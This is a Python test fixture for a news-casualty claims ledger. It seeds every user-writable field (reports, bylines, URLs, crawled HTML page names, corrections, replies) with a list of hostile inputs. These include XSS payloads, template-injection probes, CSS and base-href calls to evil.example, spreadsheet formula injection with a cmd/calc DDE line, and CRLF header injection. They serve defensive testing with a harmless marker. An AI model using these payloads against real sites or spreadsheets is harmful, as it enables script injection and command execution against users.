"""A ledger in which all that people outside write is hostile: reports, their names, replies, notes, names of users.

Every payload, were it taken for markup, would make an element or an attribute whose name holds `MARK`, or set
`globalThis.tainted`.
"""

from __future__ import annotations

import json
from collections.abc import Iterator
from contextlib import suppress
from datetime import date
from pathlib import Path
from typing import Final

from msgspec.structs import replace

from builders import run
from invented import claim, reading
from recount.ledger import Ledger
from recount.ledger.judgements import judge
from recount.ledger.replies import reply
from recount.model import Correction, Grading, Judgement, Merge, Rating, Recorded, Reply, Review, Split

MARK: Final = "taint"
_RUN: Final = "globalThis.tainted=1"
PAYLOADS: Final = (
    f"<script>{_RUN}</script><{MARK}-a>",
    f"</script><script>{_RUN}//</title></style></textarea></noscript><{MARK}-b {MARK}=1>",
    f"<img src=x onerror={_RUN} {MARK}=1>",
    f'" autofocus onfocus="{_RUN}" {MARK}="1',
    f"' onmouseover='{_RUN}' {MARK}='1",
    f"javascript:{_RUN}//https://example.org/",
    f"data:text/html,<script>{_RUN}</script>",
    f"<svg onload={_RUN}><animate onbegin={_RUN} {MARK}=1><{MARK}-c>",
    f"<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;{MARK}-d&gt;' onerror={_RUN} {MARK}=1>",
    f"}}</style><style>*{{background:url(//evil.example/x)}} @import '//evil.example'; <{MARK}-e>",
    f"{{{{7*7}}}}{{% set x=1 %}}${{7*7}}#{{7*7}}{{{{cycler.__init__.__globals__}}}}<{MARK}-f>",
    f"<!-- never closed <{MARK}-g>",
    f"]]><{MARK}-h/><![CDATA[",
    f'{{"@type":"x"}}</script><{MARK}-i>\\u003c\\"\u2028\u2029',
    "nine \u202eelbat\u202c \u2066isolate\u2067 never closed \u200f",
    "nul\x00esc\x1b[31m\x85\x07bell\x7f",
    '=HYPERLINK("https://evil.example","x")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "＝1+1",
    "a\r\nSet-Cookie: tainted=1\r\n\r\n<b>",
    f"<iframe srcdoc='<script>{_RUN}</script>' {MARK}=1></iframe><base href=//evil.example/ {MARK}=1>",
    f"<a href=javascript:{_RUN} {MARK}=1>x</a><form action=//evil.example {MARK}=1><input {MARK}=1>",
    "W" * 3000,
)
MONDAY: Final = (date(2031, 4, 7), date(2031, 4, 7))


def told() -> Iterator[Recorded]:
    """For each payload a report that says it wherever a report says anything, and another that copies that."""
    for number, words in enumerate(PAYLOADS):
        name = words.strip() or words
        sentence = f"At least {number + 2} {name} died in {name} on Monday, {name} said. {number + 9} more are missing."
        for copy in range(2):
            of = reading(
                ("headline", f"{words} {copy}"),
                ("sentence", sentence),
                ("furniture", f"Read more: {words}", "related_links"),
                publisher=words, title=words, published=date(2031, 4, 8 + copy), url=words,
            )  # fmt: skip
            report = replace(of.report, byline=words, id=f"{words}/{number}/{copy}" if copy else of.report.id)
            of = replace(of, report=report)
            made = claim(
                of, sentence, f"{number + 2}", number + 2, None, "killed", operator="at_least", noun=name,
                group="civilians", party=words, source=(name, "other"), name=name, via=(name, "media"), cue="said",
                act="says", place="Karsova" if "Karsova" in sentence else None, days=MONDAY, time="on Monday",
            )  # fmt: skip
            yield Recorded(reading=of, claims=(made,))


def rows() -> bytes:
    """The same payloads as rows of JSON Lines, for the readers."""
    lines = (
        {
            "id": words, "title": words, "publisher": words, "byline": words, "url": words, "published": "2031-04-08",
            "text": f"{words}\n\nAt least {number + 2} people were killed in Kharkiv on Monday, {words} said.",
        }
        for number, words in enumerate(PAYLOADS)
    )  # fmt: skip
    return b"".join(json.dumps(each).encode() + b"\n" for each in lines)


def pages(folder: Path) -> None:
    """The payloads as files that a crawler may have left: in their names, heads, bodies and metadata."""
    for number, words in enumerate(PAYLOADS):
        quoted = json.dumps(words)
        page = (
            f"<html><head><title>{words}</title><meta name=author content={quoted}>"
            f'<script type="application/ld+json">{{"@type":"NewsArticle","headline":{quoted}}}</script></head>'
            f"<body><h1>Toll {number}</h1><p>At least {number + 3} people were killed in Kharkiv on 7 April 2031, "
            f"{words} said.</p><p>Mayor Ada Lind said that {number + 4} others were wounded in the city.</p></body>"
        )
        name = words.replace("/", "_").replace("\0", "_")[:100]
        with suppress(OSError):
            (folder / f"{name}{number}.html").write_text(page, encoding="utf-8")
    (folder / "rows.jsonl").write_bytes(rows())


def fill(ledger: Ledger, read: Iterator[Recorded]) -> None:
    """Add what is read and told, and have hostile people judge and answer all of it."""
    made = [*told(), *read]
    ledger.add(run(), made)
    names = [each.claim.id for one in made[: 2 * len(PAYLOADS)] for each in one.claims]
    for number, words in enumerate(PAYLOADS):
        first, second = names[2 * number : 2 * number + 2]
        said: list[Judgement] = [
            Review(claim=first, verdict="reject" if number % 5 == 4 else "accept", note=words),
            Correction(claim=second, field="party", value=words, note=words),
            Correction(claim=second, field="place", value=words, note=words),
            Correction(claim=second, field="lat", value=47.0 + number * 0.2),
            Correction(claim=second, field="lon", value=31.0 + number * 0.3),
            Correction(claim=second, field="source", value=words, note=words),
            Grading(claim=second, grade="weak", note=words),
            Rating(source=words.strip() or words, reliability="E", note=words),
        ]
        ledger.who = words
        judge(ledger, said, "recount test")
        reply(ledger, Reply(claim=second, text=words, name=words), "recount test", contact=f"{words} contact-kept")
    ledger.who = PAYLOADS[0]
    judge(ledger, [Merge(claims=tuple(names[1:6:2]), note=PAYLOADS[1])], "recount test")
    judge(ledger, [Split(claims=(names[7],), note=PAYLOADS[2])], "recount test")
